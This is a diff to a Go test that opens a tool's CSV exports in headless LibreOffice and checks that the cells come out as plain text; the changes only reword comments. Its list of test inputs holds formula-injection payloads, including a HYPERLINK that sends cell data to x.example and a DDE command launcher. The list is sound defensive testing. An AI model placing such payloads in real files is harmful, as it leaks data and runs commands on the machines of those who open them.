@@ -18,14 +18,14 @@ import (
 	"github.com/idleseat/idleseat/shared/sandbox"
 )
 
-// awkward are names of people and departments that a spreadsheet could evaluate, split, or show with other letters.
+// awkward are names of people and departments that a spreadsheet could evaluate, split, or show in the wrong encoding.
 var awkward = []string{
 	`=HYPERLINK("http://x.example/?"&A1;"click")`, `+cmd|' /C calc'!A0`, "@SUM(1;1)", "-2+3", "\t=1+1", "a\r=1+1", "\n=1+1", "＝1+1", " =1+1", `"=1+1"`,
 	"Anna;=1+1;x", "Anna,=1+1,x", `Anna"; =1+1;`, "Anna\u2028=1+1", "Åsa Öberg, ÄÖ", "Müller-Groß; Jürgen", "漢字 太郎", "שרה כהן", `Bo "B" O'Brien`,
 }
 
-// TestSpreadsheet opens every CSV file that the command writes in LibreOffice, with its Swedish, German and English
-// settings. LibreOffice is asked to evaluate formulas and to look for special numbers, which Excel always does.
+// TestSpreadsheet opens every CSV file of the command in LibreOffice, with its Swedish, German and English settings. In
+// the test, LibreOffice evaluates formulas and detects special numbers, because Excel always does.
 func TestSpreadsheet(t *testing.T) {
 	t.Parallel()
 	if os.Getenv("IDLESEAT_TEST_SPREADSHEET") == "" {
@@ -107,15 +107,15 @@ func (c *spreadCell) value() string {
 	case "", "string":
 		var lines []string
 		for _, l := range c.Lines {
-			lines = append(lines, html.UnescapeString(strings.ReplaceAll(l.XML, "<text:s/>", " "))) // a blank that XML would drop
+			lines = append(lines, html.UnescapeString(strings.ReplaceAll(l.XML, "<text:s/>", " "))) // XML would drop a blank
 		}
 		return strings.Join(lines, "\n")
 	}
 	return fmt.Sprintf("%+v", c)
 }
 
-// opened returns the cells of the files that were written with a separator, by file, as a spreadsheet with the settings
-// of locale reads them that expects the separator expected.
+// opened returns the cells of the files with the separator written, by file. A spreadsheet program opens the files with
+// the settings of locale, and expects the separator expected.
 func (s *shell) opened(t *testing.T, locale, written, expected string) map[string][][]spreadCell {
 	t.Helper()
 	suffix := map[string]string{",": "-comma", ";": "-semicolon"}[written]
@@ -132,9 +132,9 @@ func (s *shell) opened(t *testing.T, locale, written, expected string) map[strin
 	if err := os.WriteFile(filepath.Join(profile, "user", "registrymodifications.xcu"), []byte(settings), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	// The separator, the quote, UTF-8, the first line, no formats of columns, the language of the profile, quoted cells
-	// are not always text, special numbers; three options of export; all sheets, and evaluate formulas
-	// (https://help.libreoffice.org/latest/en-US/text/shared/guide/csv_params.html).
+	// The options are the separator, the quote, UTF-8, the first line, no formats of columns, the language of the
+	// profile, quoted cells are not always text, special numbers, three options of export, all sheets, and evaluation
+	// of formulas (https://help.libreoffice.org/latest/en-US/text/shared/guide/csv_params.html).
 	filter := fmt.Sprintf("CSV:%d,34,76,1,,0,false,true,false,false,false,0,true", expected[0])
 	cmd := exec.CommandContext(t.Context(), "soffice", append([]string{"--headless", "--norestore", "-env:UserInstallation=file://" + profile, "--infilter=" + filter, "--convert-to", "fods", "--outdir", out}, files...)...)
 	if said, err := cmd.CombinedOutput(); err != nil {
@@ -152,7 +152,7 @@ func (s *shell) opened(t *testing.T, locale, written, expected string) map[strin
 	return all
 }
 
-// spreadCells returns the cells of a flat OpenDocument file by row, without the empty ones at the ends.
+// spreadCells returns the cells of a flat OpenDocument file by row, without empty cells at the end of a row.
 func spreadCells(t *testing.T, file []byte) (rows [][]spreadCell) {
 	t.Helper()
 	var document struct {
@@ -176,7 +176,7 @@ func spreadCells(t *testing.T, file []byte) (rows [][]spreadCell) {
 	return rows
 }
 
-// sameSheet compares the cells of a spreadsheet with the file: columns, letters, dates and numbers.
+// sameSheet compares the cells of a spreadsheet with the CSV file: columns, texts, dates and numbers.
 func (s *shell) sameSheet(t *testing.T, file, separator string, rows [][]spreadCell) {
 	t.Helper()
 	raw, err := os.ReadFile(s.path(file + map[string]string{",": "-comma", ";": "-semicolon"}[separator] + ".csv"))
